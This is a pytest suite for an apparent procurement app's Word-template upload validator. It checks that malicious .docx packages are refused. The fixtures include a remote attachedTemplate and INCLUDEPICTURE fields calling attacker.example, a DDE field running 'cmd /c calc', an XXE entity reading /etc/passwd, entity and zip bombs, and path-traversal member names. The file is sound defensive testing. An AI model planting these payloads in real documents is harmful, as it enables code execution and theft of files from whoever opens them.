"""An uploaded Word template is kept only if it is a plain, self-contained .docx package."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest

from procure.admin.template_check import (
    MAX_TEMPLATE_BYTES,
    Reason,
    TemplateRejected,
    check_template_file,
)

ROOT = Path(__file__).parents[2]
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"


def word_file() -> bytes:
    document = docx.Document()
    document.add_paragraph("Cahier des clauses administratives particulières")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rebuilt(
    data: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> bytes:
    """``data``'s package with parts replaced, added or dropped."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def part(data: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def rejection(data: bytes) -> TemplateRejected:
    with pytest.raises(TemplateRejected) as caught:
        check_template_file(data)
    return caught.value


def test_a_document_saved_by_python_docx_is_accepted():
    check_template_file(word_file())


def test_procures_own_default_template_is_accepted():
    check_template_file((ROOT / "templates" / "default.docx").read_bytes())


def test_a_dotx_template_content_type_is_accepted():
    data = word_file()
    types = part(data, "[Content_Types].xml").replace(
        MAIN_TYPE.encode(), MAIN_TYPE.replace("document.main", "template.main").encode()
    )
    check_template_file(rebuilt(data, replace={"[Content_Types].xml": types}))


def test_an_empty_file_is_refused():
    assert rejection(b"").reason is Reason.EMPTY


def test_a_file_over_two_megabytes_is_refused_before_unpacking():
    error = rejection(b"PK" + b"\0" * MAX_TEMPLATE_BYTES)
    assert error.reason is Reason.TOO_LARGE


@pytest.mark.parametrize(
    "data",
    [b"%PDF-1.7 not a zip", b"PK\x03\x04 truncated", b"Texte brut", b"\xd0\xcf\x11\xe0"],
)
def test_a_file_that_is_not_a_zip_package_is_refused(data):
    assert rejection(data).reason is Reason.NOT_ZIP


@pytest.mark.parametrize("missing", ["[Content_Types].xml", "word/document.xml", "word/styles.xml"])
def test_each_required_part_is_named_when_missing(missing):
    error = rejection(rebuilt(word_file(), drop=(missing,)))
    assert (error.reason, error.detail) == (Reason.MISSING_PART, missing)


def test_a_spreadsheet_is_not_a_word_document():
    data = word_file()
    types = part(data, "[Content_Types].xml").replace(
        MAIN_TYPE.encode(),
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    )
    error = rejection(rebuilt(data, replace={"[Content_Types].xml": types}))
    assert error.reason is Reason.NOT_WORD
    assert "spreadsheetml" in error.detail


def test_a_macro_enabled_document_is_refused():
    data = word_file()
    types = part(data, "[Content_Types].xml").replace(MAIN_TYPE.encode(), MACRO_TYPE.encode())
    error = rejection(rebuilt(data, replace={"[Content_Types].xml": types}))
    assert (error.reason, error.detail) == (Reason.MACROS, "/word/document.xml")


def test_a_vba_project_part_is_refused_even_without_its_content_type():
    error = rejection(rebuilt(word_file(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    assert (error.reason, error.detail) == (Reason.MACROS, "word/vbaProject.bin")


def test_an_activex_control_is_refused():
    error = rejection(rebuilt(word_file(), add={"word/activeX/activeX1.xml": b"<ax/>"}))
    assert error.reason is Reason.MACROS


def test_a_vba_content_type_default_is_refused():
    data = word_file()
    types = part(data, "[Content_Types].xml").replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    error = rejection(rebuilt(data, replace={"[Content_Types].xml": types}))
    assert (error.reason, error.detail) == (Reason.MACROS, "bin")


def test_an_external_attached_template_is_refused_naming_part_and_target():
    data = word_file()
    settings_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    error = rejection(rebuilt(data, add={"word/_rels/settings.xml.rels": settings_rels}))
    assert error.reason is Reason.EXTERNAL_RELATIONSHIP
    assert error.detail == (
        "word/_rels/settings.xml.rels: attachedTemplate → https://attacker.example/t.dotm"
    )


def test_an_external_hyperlink_in_the_document_is_refused():
    data = word_file()
    rels = part(data, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="http://example.org/" TargetMode="External"/>'
        b"</Relationships>",
    )
    error = rejection(rebuilt(data, replace={"word/_rels/document.xml.rels": rels}))
    assert error.reason is Reason.EXTERNAL_RELATIONSHIP
    assert "hyperlink → http://example.org/" in error.detail


@pytest.mark.parametrize(
    "name",
    [
        "../evil.xml",
        "word/../../evil.xml",
        "/etc/passwd",
        "C:/Windows/evil.xml",
        "word\\..\\evil.xml",
        "word/./document2.xml",
    ],
)
def test_member_names_that_leave_the_package_are_refused(name):
    error = rejection(rebuilt(word_file(), add={name: b"<x/>"}))
    assert (error.reason, error.detail) == (Reason.UNSAFE_NAME, name)


def test_a_duplicate_member_name_is_refused():
    data = word_file()
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("word/document.xml", b"<w:document/>")
    assert rejection(out.getvalue()).reason is Reason.UNSAFE_NAME


def test_a_doctype_in_an_xml_part_is_refused():
    data = word_file()
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;">]><w:styles>&lol2;</w:styles>'
    )
    error = rejection(rebuilt(data, replace={"word/styles.xml": bomb}))
    assert (error.reason, error.detail) == (Reason.DTD, "word/styles.xml")


def test_broken_xml_is_refused_naming_the_part():
    error = rejection(rebuilt(word_file(), replace={"word/document.xml": b"<w:document"}))
    assert (error.reason, error.detail) == (Reason.BAD_XML, "word/document.xml")


def test_a_zip_bomb_is_refused_without_unpacking_it():
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(word_file())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
        target.writestr("word/media/huge.bin", b"\0" * (60 * 1024 * 1024))
    data = out.getvalue()
    assert len(data) < MAX_TEMPLATE_BYTES
    assert rejection(data).reason is Reason.TOO_BIG_UNPACKED


def test_an_encrypted_member_is_refused():
    data = bytearray(rebuilt(word_file(), add={"word/secret.xml": b"<x/>"}))
    name = b"word/secret.xml"
    local_header = bytes(data).index(b"PK\x03\x04", bytes(data).index(name) - 30)
    central_header = bytes(data).rindex(b"PK\x01\x02", 0, bytes(data).rindex(name))
    data[local_header + 6] |= 0x1  # general purpose flag bit 0: encrypted
    data[central_header + 8] |= 0x1
    assert rejection(bytes(data)).reason is Reason.ENCRYPTED


def test_a_package_word_cannot_find_its_document_in_is_unreadable():
    with pytest.raises(TemplateRejected) as refused:
        check_template_file(rebuilt(word_file(), drop=("_rels/.rels",)))
    assert refused.value.reason is Reason.UNREADABLE


def test_the_styles_procure_cannot_do_without_are_named():
    styles = zipfile.ZipFile(io.BytesIO(word_file())).read("word/styles.xml")
    renamed = styles.replace(b'w:styleId="Heading1"', b'w:styleId="Titre1"').replace(
        b'w:val="heading 1"', b'w:val="Titre principal"'
    )
    with pytest.raises(TemplateRejected) as refused:
        check_template_file(rebuilt(word_file(), replace={"word/styles.xml": renamed}))
    assert (refused.value.reason, refused.value.detail) == (Reason.MISSING_STYLES, "Heading 1")


HOSTILE = ROOT / "tests" / "data" / "templates"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def test_the_committed_hostile_templates_are_what_their_script_writes():
    from tests.data.make_hostile_templates import hostile_templates

    written = hostile_templates()
    assert sorted(written) == sorted(path.name for path in HOSTILE.glob("*.docx"))
    for name, content in written.items():
        assert (HOSTILE / name).read_bytes() == content, name


@pytest.mark.parametrize(
    ("name", "reason", "detail"),
    [
        ("field-includepicture-body.docx", Reason.FIELD_CODE, "word/document.xml: INCLUDEPICTURE"),
        ("field-includetext-header.docx", Reason.FIELD_CODE, "word/header1.xml: INCLUDETEXT"),
        ("field-ddeauto-footer.docx", Reason.FIELD_CODE, "word/footer1.xml: DDEAUTO"),
        ("dtd-header.docx", Reason.DTD, "word/header1.xml"),
        ("utf16-doctype.docx", Reason.DTD, "word/document.xml"),
    ],
)
def test_a_hostile_template_is_refused_naming_part_and_field(name, reason, detail):
    error = rejection((HOSTILE / name).read_bytes())
    assert (error.reason, error.detail) == (reason, detail)


def test_page_numbers_dates_a_table_of_contents_and_a_web_link_are_allowed():
    check_template_file((HOSTILE / "allowed-fields.docx").read_bytes())


def story(root: str, content: str) -> bytes:
    return f'<w:{root} xmlns:w="{W_NS}">{content}</w:{root}>'.encode()


def simple_field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"/></w:p>'


def complex_field(*pieces: str, text: str = "instrText") -> str:
    runs = "".join(f"<w:r><w:{text}>{piece}</w:{text}></w:r>" for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@pytest.mark.parametrize(
    ("name", "root"),
    [
        ("word/header2.xml", "hdr"),
        ("word/footer3.xml", "ftr"),
        ("word/footnotes.xml", "footnotes"),
        ("word/endnotes.xml", "endnotes"),
        ("word/comments.xml", "comments"),
        ("word/glossary/document.xml", "glossaryDocument"),
    ],
)
def test_a_field_is_checked_in_every_part_of_the_package(name, root):
    picture = simple_field(" INCLUDEPICTURE &quot;http://attacker.example/p.png&quot; ")
    error = rejection(rebuilt(word_file(), add={name: story(root, picture)}))
    assert (error.reason, error.detail) == (Reason.FIELD_CODE, f"{name}: INCLUDEPICTURE")
    dde = complex_field(" DD", "E ", "cmd /c calc")
    error = rejection(rebuilt(word_file(), add={name: story(root, dde)}))
    assert (error.reason, error.detail) == (Reason.FIELD_CODE, f"{name}: DDE")


@pytest.mark.parametrize(
    ("fields", "refused"),
    [
        (complex_field(" include", "picture x.png "), "INCLUDEPICTURE"),
        (complex_field(" LINK Excel.Sheet.8 ", text="delInstrText"), "LINK"),
        (simple_field(" = 2 + 2 "), "="),
        (simple_field(" MERGEFIELD Name "), "MERGEFIELD"),
        (simple_field(" HYPERLINK &quot;file:///C:/secret.txt&quot; "), "HYPERLINK"),
        (simple_field(" HYPERLINK &quot;javascript:alert(1)&quot; "), "HYPERLINK"),
        (simple_field(r" HYPERLINK \\server\share "), "HYPERLINK"),
        (simple_field(" HYPERLINK "), "HYPERLINK"),
    ],
)
def test_fields_that_reach_outside_the_document_are_refused(fields, refused):
    data = rebuilt(word_file(), add={"word/footnotes.xml": story("footnotes", fields)})
    error = rejection(data)
    assert error.reason is Reason.FIELD_CODE
    assert error.detail.startswith(f"word/footnotes.xml: {refused}")


def test_a_field_whose_name_or_link_is_computed_by_a_nested_field_is_refused():
    nested_name = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText> QUOTE "INCLUDEPICTURE" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText> "http://attacker.example/p.png" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    error = rejection(
        rebuilt(word_file(), add={"word/comments.xml": story("comments", nested_name)})
    )
    assert error.reason is Reason.FIELD_CODE
    assert error.detail.startswith("word/comments.xml: ")


@pytest.mark.parametrize(
    "fields",
    [
        simple_field(" PAGE "),
        complex_field(" SECTION", "PAGES \\* Arabic "),
        complex_field(" REF _Ref123 \\h "),
        complex_field(' STYLEREF "Heading 1" '),
        complex_field(" SEQ Table \\* ARABIC "),
        simple_field(" HYPERLINK &quot;mailto:achats@example.org&quot; "),
        simple_field(" HYPERLINK \\l &quot;_Toc1&quot; "),
        simple_field(" HYPERLINK &quot;HTTPS://example.org/&quot; \\o &quot;Site&quot; "),
    ],
)
def test_fields_that_stay_inside_the_document_are_allowed(fields):
    check_template_file(
        rebuilt(word_file(), add={"word/footnotes.xml": story("footnotes", fields)})
    )


def test_a_part_that_is_xml_by_its_content_type_is_read_as_xml():
    data = word_file()
    types = part(data, "[Content_Types].xml").replace(
        b"</Types>", b'<Default Extension="dat" ContentType="application/xml"/></Types>'
    )
    hostile = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x/>'
    data = rebuilt(
        data, replace={"[Content_Types].xml": types}, add={"customXml/item1.dat": hostile}
    )
    assert (rejection(data).reason, rejection(data).detail) == (Reason.DTD, "customXml/item1.dat")


def test_an_external_entity_in_any_part_is_refused():
    hostile = (
        b'<?xml version="1.0"?><!DOCTYPE w:settings [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<w:settings xmlns:w="' + W_NS.encode() + b'">&x;</w:settings>'
    )
    error = rejection(rebuilt(word_file(), replace={"word/settings.xml": hostile}))
    assert (error.reason, error.detail) == (Reason.DTD, "word/settings.xml")


def test_a_field_in_a_strict_ooxml_part_is_refused_too():
    strict = "http://purl.oclc.org/ooxml/wordprocessingml/main"
    header = (
        f'<w:hdr xmlns:w="{strict}"><w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:/x&quot; "/>'
        "</w:p></w:hdr>"
    ).encode()
    error = rejection(rebuilt(word_file(), add={"word/header1.xml": header}))
    assert (error.reason, error.detail) == (Reason.FIELD_CODE, "word/header1.xml: INCLUDETEXT")
